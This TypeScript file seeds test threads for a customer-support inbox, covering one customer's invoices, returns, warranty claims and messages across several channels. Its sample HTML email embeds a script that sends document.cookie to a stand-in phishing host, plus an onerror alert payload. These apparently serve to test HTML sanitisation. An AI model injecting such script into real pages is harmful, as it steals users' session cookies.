import { invoice, tentSticker } from '../records/files.ts';
import {
  contactForm,
  instagram,
  messenger,
  returnsMail,
  shopChat,
  social,
  supportMail,
  trailForum,
  warrantyMail,
  whatsApp,
} from '../records/inboxes.ts';
import {
  assigned,
  closed,
  comment,
  customer,
  moved,
  reopened,
  team,
  unassigned,
} from '../../format/lines.ts';
import type { SeedThread } from '../../format/seed.ts';
import { amara, jonas, mateo, parcelApp, priya, system, tom, yuki } from '../records/team.ts';

const NEWSLETTER = `<html><head><style>p { margin: 0 }</style></head><body>
<p>Hi all,</p>
<p>my questions about the <b>school discount</b> &amp; the spring order:</p>
<ul><li>Does it stack with the <i>early bird</i> price?</li><li>Is &pound;1,200 &lt; the minimum, or are we fine?</li><li>Who signs the <a href="https://fernhill.example/forms/supplier?year=2027&amp;dept=outdoor">supplier form</a>?</li></ul>
<ol><li>first choice: Kestrel 3</li><li>second choice: Merlin 4</li></ol>
<blockquote type="cite"><p>On Monday you wrote:</p><blockquote><p>We can hold the price until the end of the month.</p></blockquote></blockquote>
<script>window.location = 'https://phish.example/' + document.cookie</script>
<img src="https://track.fernhill.example/open.gif" width="1" height="1" onerror="alert(1)">
<p>Best wishes&nbsp;&mdash; Nora</p>
</body></html>`;

/** Nora Whitfield's other threads, on all channels. */
export const noraOther: readonly SeedThread[] = [
  {
    id: '70010005',
    with: '101',
    account: supportMail,
    subject: 'School discount and spring order',
    lines: [
      customer('1d 2h', '', { richText: NEWSLETTER }),
      assigned(mateo, '1d 1h 40m'),
      comment(mateo, '1d 1h', 'Discounts do <not> stack. Checking the supplier form with finance.'),
    ],
  },
  {
    id: '70010006',
    with: '101',
    account: contactForm,
    lines: [
      customer(
        '4d 6h',
        'Name: Nora Whitfield\nTopic: Invoice\nMessage: Please send the invoice for RO-20418 again, the attachment was empty.',
      ),
      assigned(amara, '4d 5h'),
      team(amara, '4d 5h', 'Hello Nora, here is the invoice again, this time with its pages.', {
        on: supportMail,
        subject: 'Your invoice for RO-20418',
        files: [invoice],
      }),
      customer('4d 3h', 'Got it, thank you!', {
        on: supportMail,
        subject: 'Re: Your invoice for RO-20418',
      }),
      closed(amara, '4d 2h'),
    ],
  },
  {
    id: '70010007',
    with: '101',
    account: whatsApp,
    lines: [
      team(parcelApp, '7h', 'Your return RO-20377 has reached us.', {
        attachments: [
          { type: 'MESSAGE_HEADER', text: 'Ridgeline Outfitters' },
          {
            type: 'WHATSAPP_TEMPLATE_METADATA',
            contentId: 88_120,
            crmObjectIds: { contactId: 101 },
            mappedTemplateId: 412,
            parameters: { '1': 'RO-20377' },
            rootMicId: 991,
          },
        ],
      }),
      customer('2h 5m', 'Great! Can I pick the new jacket up in the Keswick store instead?'),
    ],
  },
  {
    id: '70010008',
    with: '101',
    account: messenger,
    lines: [
      customer('6d 4h', 'Is this where your pop-up store is on Saturday?', {
        attachments: [
          {
            type: 'LOCATION',
            latitude: 54.6013,
            longitude: -3.1347,
            name: 'Keswick Moot Hall',
            address: 'Market Square, Keswick',
          },
        ],
      }),
      assigned(yuki, '6d 3h'),
      team(yuki, '6d 3h', 'Yes! Right there, from ten to five.', { read: true }),
      customer('6d 2h', '', { files: [tentSticker] }),
      closed(yuki, '6d 1h'),
    ],
  },
  {
    id: '70010009',
    with: '101',
    account: returnsMail,
    subject: 'Exchange: rain jackets for staff',
    lines: [
      customer(
        '9d',
        'Two of the eight staff jackets are a size too small. Can we exchange them without sending all eight back?',
      ),
      assigned(priya, '8d 22h'),
      team(priya, '8d 21h', 'Of course. Send just those two, the label is on its way.', {
        subject: 'Re: Exchange: rain jackets for staff',
        cc: ['stores@fernhill-school.example'],
        failed: '550 5.1.1 stores@fernhill-school.example: recipient address rejected',
      }),
      comment(
        priya,
        '8d 20h',
        'Bounced because of the address in CC. Rang her, she has the label.',
      ),
      closed(priya, '8d 20h'),
      customer(
        '26h',
        'The two jackets are with the courier. When will the larger ones leave you?',
        {
          subject: 'Re: Exchange: rain jackets for staff',
        },
      ),
      reopened(system, '26h'),
    ],
  },
  {
    id: '70010010',
    with: '101',
    account: trailForum,
    lines: [
      customer(
        '10d',
        'You answered in the thread about tarp pitches. Do you run that evening course in Cumbria as well?',
      ),
      team(jonas, '9d 20h', 'We do: 14 March, in Keswick. I keep a place for you.'),
      customer('9d 19h', 'Please do 🙏'),
      closed(jonas, '9d 18h'),
    ],
  },
  {
    id: '70010011',
    with: '101',
    account: instagram,
    lines: [
      customer('3h 20m', '😍🏔️', {
        attachments: [
          {
            type: 'SOCIAL_MEDIA_METADATA',
            socialMetadata: {
              mediaType: 'STORY',
              mediaTitle: 'Kestrel 3 on the Cuillin ridge',
              mediaUrl: 'https://instagram.example/stories/ridgeline/1',
            },
          },
        ],
      }),
      customer('3h 5m', '', { attachments: [{ type: 'UNSUPPORTED_CONTENT' }] }),
    ],
  },
  {
    id: '70010012',
    with: '101',
    account: shopChat,
    lines: [
      customer('18d', 'Do you rent out bear canisters?'),
      assigned(tom, '18d'),
      team(tom, '18d', 'Not in the UK, sorry. We can order one for you.'),
      customer('18d', 'No worries, I ask around.'),
      closed(tom, '17d'),
    ],
  },
  {
    id: '70010013',
    with: '101',
    account: warrantyMail,
    subject: 'Head torch: switch sticks in the cold',
    lines: [
      customer(
        '33d',
        'One of our 20 head torches does not switch off below zero. Is that a warranty case?',
      ),
      assigned(yuki, '33d'),
      team(yuki, '32d', 'It is. A new one is on its way, keep the old one for parts.', {
        fromOwnMailbox: true,
      }),
      closed(yuki, '32d'),
    ],
  },
  {
    id: '70010014',
    with: '101',
    account: supportMail,
    subject: 'Guest speaker for our winter skills evening',
    lines: [
      customer('15d', 'Would one of your team come and speak about layering on 9 December?'),
      assigned(amara, '14d'),
      unassigned(amara, '13d 20h'),
      moved(amara, '13d 20h', social),
      comment(amara, '13d 20h', 'This is one for events, moving it over.'),
      team(jonas, '13d', 'I would love to. Does 7 pm work for you?'),
    ],
  },
  {
    id: '70010015',
    with: '101',
    account: supportMail,
    subject: 'Old thread about lost gaiters',
    archived: '20d',
    lines: [
      customer('60d', 'I think I left a pair of gaiters in your shop.'),
      team(tom, '59d', 'Found them, they are at the till.'),
      closed(tom, '59d'),
    ],
  },
  {
    id: '70010016',
    with: '101',
    account: supportMail,
    subject: 'You have won a voucher',
    spam: true,
    lines: [customer('11d', 'Congratulations!!! Confirm your address to receive your voucher.')],
  },
];
